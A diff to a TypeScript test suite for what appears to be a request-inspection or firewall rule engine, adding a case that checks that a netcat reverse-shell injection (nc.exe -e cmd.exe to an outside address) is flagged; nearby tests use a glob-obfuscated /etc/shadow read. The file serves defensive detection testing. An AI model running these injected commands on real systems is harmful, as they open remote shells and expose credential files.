@@ -516,6 +516,12 @@ describe('wildcard command paths', () => {
     expect(ids('what does $IFS mean in bash')).toEqual([]);
   });
 
+  it("reads netcat's Windows build handing a shell over (nc.exe -e cmd.exe)", () => {
+    const ids = (value: string): number[] => inspectValue(new InspectedValue('query', 'path', value)).map((r) => r.id);
+    expect(ids('\\\\fs01\\public & \\\\203.0.113.45\\tools\\nc.exe -e cmd.exe 203.0.113.45 443')).toContain(400106);
+    expect(ids('x & nc.exe -e cmd.exe 203.0.113.45 443')).toContain(400106);
+  });
+
   it('reports a command word spelt with bracket sets as the glob evasion, and leaves route patterns alone', () => {
     const ids = (value: string): number[] => inspectValue(new InspectedValue('query', 'service', value)).map((r) => r.id);
     expect(ids('nginx;/b[i]n/c[a]t /e[t]c/sh[a]dow')).toContain(400119);
